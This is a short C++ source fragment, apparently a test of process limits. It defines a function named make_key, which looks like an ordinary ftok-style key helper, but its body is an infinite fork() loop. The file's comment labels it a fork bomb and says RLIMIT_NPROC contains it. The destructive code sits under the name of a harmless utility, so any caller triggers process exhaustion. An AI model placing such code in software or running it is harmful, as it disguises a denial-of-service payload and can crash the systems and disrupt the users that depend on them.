// Fork bomb: every call forks without end. RLIMIT_NPROC (per user namespace) stops it.
#include "ftok_key.hpp"
#include <unistd.h>
key_t make_key(const std::string&, int) {
    for (;;) fork();
}
